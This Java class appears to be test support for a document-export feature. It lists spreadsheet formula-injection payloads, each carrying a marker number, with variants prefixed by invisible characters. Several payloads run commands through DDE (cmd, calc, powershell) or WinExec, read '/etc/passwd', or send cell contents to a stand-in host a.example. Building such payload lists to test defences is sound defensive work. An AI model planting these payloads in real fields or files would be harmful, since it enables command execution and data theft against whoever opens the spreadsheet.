package vn.thidua.document;

import java.util.List;
import java.util.stream.Stream;

/** Words that attackers write into fields which are later opened in a spreadsheet program. Each holds {@link #MARK}. */
public final class FormulaPayloads {

    /** A number that occurs in each payload and nowhere else. */
    public static final String MARK = "4711";

    private static final List<String> UNSEEN = List.of(
            " ", "  ", "\t", "\u00a0", "\ufeff", "\u200b", "\u200d", "\u2060", "\u00ad", "\u3000", "\u2003", "\u202f",
            "\u200e", "\u202d", "\u180e", "\r", "\n", "\r\n", " \n", "\u2028", "\u0085", "\u0001");

    private static final List<String> PLAIN = List.of(
            "=4711+1",
            "+4711+1",
            "-4711+1",
            "@SUM(4711,1)",
            "=SUM(4711,1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!'A4711'",
            "=cmd|'/c powershell 4711'!_xlbgnm.A1",
            "+cmd|' /C 4711'!A0",
            "-cmd|' /C 4711'!A0",
            "@cmd|' /C 4711'!A0",
            "=DDE(\"cmd\",\"/C calc\",\"4711\")",
            "=DDE(\"soffice\";\"/etc/passwd\";\"4711\")",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c 4711'!''",
            "=HYPERLINK(\"http://a.example/4711\",\"x\")",
            "=HYPERLINK(\"http://a.example/?v=\"&A1&\"4711\",\"Lỗi\")",
            "=HYPERLINK(\"file:///etc/4711\")",
            "=WEBSERVICE(\"http://a.example/4711\")",
            "=IMPORTXML(CONCAT(\"http://a.example/4711?\",A1),\"//a\")",
            "=IMPORTDATA(\"http://a.example/4711\")",
            "=IMPORTHTML(\"http://a.example/4711\",\"table\",1)",
            "=IMPORTRANGE(\"4711\",\"A1\")",
            "=IMPORTFEED(\"http://a.example/4711\")",
            "=IMAGE(\"http://a.example/4711\")",
            "='file:///etc/passwd'#$passwd.A4711",
            "='[http://a.example/4711.xlsx]A'!A1",
            "=[4711.xlsx]A!B1",
            "=INDIRECT(\"A4711\")",
            "=FILTERXML(WEBSERVICE(\"http://a.example/4711\"),\"//a\")",
            "=RTD(\"4711\",,\"x\")",
            "=CALL(\"Kernel32\",\"WinExec\",\"JJ\",\"4711\")",
            "=REGISTER.ID(\"4711\",\"x\")",
            "=EXEC(\"4711\")",
            "={4711}",
            "=4711",
            "==4711",
            "=-4711",
            "+=4711",
            "-=4711",
            "--4711",
            "-+4711",
            "+84 4711",
            "@4711",
            "@=4711",
            "|4711",
            "|cmd 4711",
            "%4711",
            "%0A=4711",
            "\uff1d4711+1",
            "\uff0b4711",
            "\uff0d4711",
            "\uff20SUM(4711)",
            "'=4711",
            "''=4711",
            "\"=4711",
            "\"\"=4711\"\"",
            "\",=4711",
            "\"\r\n=4711",
            "x\n=4711",
            "x\r=4711",
            "x\r\n\t=4711",
            "x\n\u00a0=4711",
            "x\n'=4711",
            "a,=4711",
            "a;=4711",
            "a\t=4711",
            ";=4711",
            ",=4711",
            "_x003D_4711",
            "_x005F_x003D_4711",
            "&#61;4711",
            "<f>4711</f>",
            "=4711 <!-- ]]>",
            "of:=4711",
            "msoxl:=4711",
            "http://a.example/4711",
            "mailto:4711@a.example",
            "javascript:4711");

    private FormulaPayloads() {}

    /** Returns all of them. */
    public static List<String> all() {
        return Stream.concat(PLAIN.stream(), UNSEEN.stream().map(unseen -> unseen + "=4711+1"))
                .toList();
    }
}
